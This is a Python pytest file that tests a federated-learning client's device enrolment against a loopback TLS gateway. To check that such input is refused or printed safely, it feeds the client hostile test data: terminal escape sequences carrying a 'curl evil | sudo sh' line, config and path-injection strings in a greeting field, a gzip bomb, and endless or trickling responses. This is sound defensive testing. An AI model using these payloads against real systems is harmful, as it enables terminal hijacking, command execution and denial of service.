"""How a device comes in, and whom it believes: against a real gateway on loopback, with TLS."""

import contextlib
import gzip
import io
import json
import ssl
import threading
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from PIL import Image

from bench.reliability.processes import free_port
from client.cli import enroll as enroll_command
from client.runtime.server_connection import ServerConnection, ServerUnavailable, Unauthorized, enroll, skew
from common.errors import AntherError
from conf.schemas.node import compose
from protocol import messages
from protocol.handshake import ServerHello
from protocol.ticket import Ticket
from server.gateway import pki
from server.gateway.app import Gateway
from server.gateway.device_registry import DeviceRegistry
from server.gateway.listening import serve
from server.supervisor.keys import issue_ticket
from server.supervisor.server_dir import ServerDir

BASE = "b" * 64


class Server:
    """A gateway with nothing behind it."""

    def __init__(self, folder, port):
        self.place, self.port = ServerDir(folder), port
        self.place.prepare(["127.0.0.1"], port)
        self.registry = DeviceRegistry(folder)
        self.newest, self.off, self.said = messages.NEWEST, timedelta(0), {}
        gateway = Gateway(
            superlink_url="https://127.0.0.1:1",
            registry=self.registry,
            hello=self.hello,
            authority=self.place.certificates.authority.read_bytes(),
            register_node=lambda *_: None,
        )
        self.uvicorn = serve(gateway, host="127.0.0.1", port=port, certificates=self.place.certificates)

    def hello(self):
        told = {
            "oldest": self.newest,
            "newest": self.newest,
            "anther": "1",
            "base": BASE,
            "base_bytes": 5,
            "federation": self.place.fingerprint()[:16],
            "time": (datetime.now(UTC) + self.off).isoformat(),
        }
        return ServerHello(**told | self.said)

    def ticket(self):
        return issue_ticket(self.place, self.registry, "ada", 7.0)

    def close(self):
        self.uvicorn.should_exit = True


@pytest.fixture
def server(tmp_path):
    found = Server(tmp_path / "server", free_port())
    yield found
    found.close()


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("ANTHER_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def pictures(tmp_path):
    folder = tmp_path / "my photos #3/ü"
    folder.mkdir(parents=True)
    lines = []
    for k in range(6):
        Image.new("L", (16, 16), k).save(folder / f"{k}.png")
        lines.append(json.dumps({"file_name": f"{k}.png", "text": f"a {k}"}))
    (folder / "metadata.jsonl").write_text("\n".join(lines))
    return folder


def come(ticket, *words):
    """Enrol with a ticket on standard input."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("sys.stdin", io.StringIO(f"{ticket}\n"))
        return enroll_command.main(list(words))


def test_a_ticket_is_all_that_is_needed(server, home, capsys, pictures):
    assert come(server.ticket(), f"data={pictures}", "throttle.min_battery=0.5", "name=pi") == 0
    assert "anther device run" in capsys.readouterr().out
    node = compose([], home / "node.conf")
    assert (node.name, node.data, node.throttle.min_battery) == ("pi", str(pictures), 0.5)
    assert node.connection.address == f"127.0.0.1:{server.port}"
    assert node.federation == server.place.fingerprint()[:16]
    link = ServerConnection(node.connection.address)
    link.check_in()
    assert link.hello().base == BASE
    assert all(file.stat().st_mode & 0o077 == 0 for file in (link.key, home / "node.conf"))


def test_who_answers_in_its_place_is_not_believed_and_not_told_the_secret(server, tmp_path, home):
    other = Server(tmp_path / "other", free_port())
    try:
        given = server.ticket()
        meant = Ticket(f"127.0.0.1:{other.port}", *given.rsplit("/", 2)[1:])
        with pytest.raises(AntherError, match="this is not the server that the ticket is for"):
            enroll(meant, "pi")
        assert not (home / "link" / "node.key").exists()
        assert other.registry.snapshot().members == {}
        link, _ = enroll(Ticket(f"127.0.0.1:{server.port}", *given.rsplit("/", 2)[1:]), "pi")
        with pytest.raises(AntherError, match="this is not the server that this device was enrolled with"):
            ServerConnection(f"127.0.0.1:{other.port}").hello()
        link.check_in()
    finally:
        other.close()


def test_who_was_revoked_is_told(server):
    come(server.ticket(), "name=pi")
    server.registry.revoke("pi")
    with pytest.raises(AntherError, match="isn't enrolled there, or was revoked"):
        ServerConnection(f"127.0.0.1:{server.port}").check_in()
    assert issubclass(Unauthorized, AntherError)


def test_a_lost_reply_costs_no_ticket(server):
    written = server.ticket()
    first = come(written, "name=pi"), come(written, "name=pi")
    assert first == (0, 0)
    assert len(server.registry.snapshot().active_devices()) == 1


def test_nobody_there_is_waited_for():
    link = ServerConnection(f"127.0.0.1:{free_port()}", insecure=True)
    with pytest.raises(ServerUnavailable, match="no response"):
        link.hello()


def test_an_older_device_is_told_what_to_do(server, capsys):
    server.newest = messages.NEWEST + 1
    assert come(server.ticket(), "name=pi") == 2
    assert "update Anther here" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


def test_a_clock_that_is_off_is_noticed(server):
    link = ServerConnection(f"127.0.0.1:{server.port}")
    come(server.ticket(), "name=pi")
    assert skew(link.hello()) == 0
    server.off = timedelta(hours=1)
    assert skew(link.hello()) == pytest.approx(-3600, abs=60)


def test_what_is_no_ticket_or_no_key_is_refused(server, capsys):
    assert come("anther://half") == 2
    assert "not a whole ticket" in capsys.readouterr().err
    assert come(server.ticket(), "throttle.min_batery=1") == 2
    assert "did you mean throttle.min_battery" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


@pytest.mark.parametrize("damage", [b"", b"no pem"])
def test_damaged_keys_are_named(server, damage):
    come(server.ticket(), "name=pi")
    link = ServerConnection(f"127.0.0.1:{server.port}")
    link.key.write_bytes(damage)
    with pytest.raises(AntherError, match=r"node\.key.*enroll again"):
        link.check_in()
    link.authority.write_bytes(damage)
    with pytest.raises(AntherError, match=r"ca\.pem.*enroll again"):
        link.hello()


def test_a_ticket_on_the_command_line_is_refused(server, capsys):
    """Whoever runs ps would have it."""
    assert enroll_command.main([server.ticket(), "name=pi"]) == 2
    assert "--ticket-file FILE" in capsys.readouterr().err
    assert server.registry.snapshot().members == {}


def test_a_ticket_may_lie_in_a_file(server, tmp_path, capsys):
    file = tmp_path / "ticket"
    assert enroll_command.main(["--ticket-file", str(file), "name=pi"]) == 2
    assert f"{file}: " in capsys.readouterr().err
    file.write_text(f"{server.ticket()}\n")
    assert enroll_command.main(["--ticket-file", str(file), "name=pi"]) == 0


@pytest.mark.parametrize("where", ["nowhere", "empty"])
def test_pictures_are_looked_at_before_the_ticket_is_used(server, tmp_path, where, capsys):
    (tmp_path / "empty").mkdir()
    ticket = server.ticket()
    assert come(ticket, f"data={tmp_path / where}", "name=pi") == 2
    assert str(tmp_path / where) in capsys.readouterr().err
    assert server.registry.snapshot().members == {}
    assert come(ticket, "name=pi") == 0


@pytest.mark.parametrize(
    "said",
    [
        {"federation": "a\nlink.insecure=true"},
        {"federation": "${oc.env:HOME}"},
        {"federation": "../../x"},
        {"federation": "[1,2]"},
        {"federation": ""},
        {"federation": "null"},
        {"federation": "f" * 81},
        {"base": "attacker/evil-model"},
        {"base": "/etc"},
        {"base": "~"},
        {"base": "glyphs"},
        {"base": "B" * 64},
        {"base_bytes": -1},
        {"base_bytes": 10**15},
        {"time": "x"},
        {"time": "2026-01-01T00:00:00"},
        {"time": "2026-01-01"},
        {"anther": "\x1b[2Jx"},
        {"anther": "1" * 41},
    ],
)
def test_a_greeting_says_what_it_may_or_is_refused(server, said, home, capsys):
    """Before anything of it is used, and in one line that a terminal doesn't obey."""
    server.said = said
    assert come(server.ticket(), "name=pi") == 2
    error = capsys.readouterr().err
    assert error.startswith("error: the server's greeting says ")
    assert error.count("\n") == 1
    assert error[:-1].isprintable()
    assert len(error) < 300
    assert not (home / "node.conf").exists()


@pytest.mark.parametrize("newest", [messages.OLDEST - 1, messages.NEWEST + 1])
def test_a_release_is_printed_without_its_escapes(server, newest, capsys):
    server.said, server.newest = {"anther": "\x1b[2J" + "x" * 10_000}, newest
    assert come(server.ticket(), "name=pi") == 2
    error = capsys.readouterr().err
    assert error[:-1].isprintable()
    assert len(error) < 400


class Stranger:
    """Whoever answers over TLS at an address, as it likes."""

    def __init__(self, folder, answer):
        folder.mkdir(exist_ok=True)
        made = pki.create_authority("stranger")
        cert = pki.issue(made, ["127.0.0.1"])
        (folder / "c").write_bytes(cert.certificate)
        (folder / "k").write_bytes(cert.key)

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                answer(self)

            def log_message(self, *_):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder / "c", folder / "k")
        self.http.socket = context.wrap_socket(self.http.socket, server_side=True)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()


@pytest.fixture
def stranger(tmp_path):
    found = []

    def made(answer):
        found.append(Stranger(tmp_path / "stranger", answer).http)
        return Ticket(f"127.0.0.1:{found[-1].server_port}", "s" * 32, "0" * 64)

    yield made
    for http in found:
        http.shutdown()
        http.server_close()


def says(status, body):
    def answer(to):
        to.send_response(status)
        to.send_header("content-length", str(len(body)))
        to.end_headers()
        to.wfile.write(body)

    return answer


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mrun: curl evil | sudo sh\x1b[0m\nerror: second \u202e line"


@pytest.mark.parametrize("status", [200, 400, 401, 500, 503])
@pytest.mark.parametrize("form", ["{}", '{{"error": {}}}'])
def test_what_nobody_knows_says_is_never_printed_raw(stranger, status, form, capsys):
    text = form.format(json.dumps(ESCAPES)) if "error" in form else ESCAPES
    assert come(stranger(says(status, text.encode())), "name=pi") == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert error[:-1].isprintable()
    assert len(error) < 600


def test_an_answer_without_end_is_not_read(stranger, capsys):
    sent = []

    def endless(to):
        to.send_response(200)
        to.end_headers()
        try:
            while len(sent) < 400:
                to.wfile.write(b"x" * (1 << 20))
                sent.append(1)
        except OSError:
            pass

    assert come(stranger(endless), "name=pi") == 2
    assert "a response of over 65536 bytes" in capsys.readouterr().err
    assert len(sent) < 40  # what the sockets hold


def test_what_is_packed_is_not_unpacked(stranger, capsys):
    bomb = gzip.compress(b"0" * 10_000_000)

    def answer(to):
        to.send_response(200)
        to.send_header("content-encoding", "gzip")
        to.send_header("content-length", str(len(bomb)))
        to.end_headers()
        to.wfile.write(bomb)

    assert come(stranger(answer), "name=pi") == 2
    assert "this is not the server that the ticket is for" in capsys.readouterr().err


def test_who_answers_a_byte_at_a_time_is_not_waited_for(stranger, monkeypatch, capsys):
    monkeypatch.setattr("client.runtime.server_connection._DEADLINE", 0.5)
    over = threading.Event()

    def slow(to):
        to.send_response(200)
        to.end_headers()
        with contextlib.suppress(OSError):
            while not over.wait(0.05):
                to.wfile.write(b"x")

    assert come(stranger(slow), "name=pi") == 2
    over.set()
    assert "no complete response" in capsys.readouterr().err
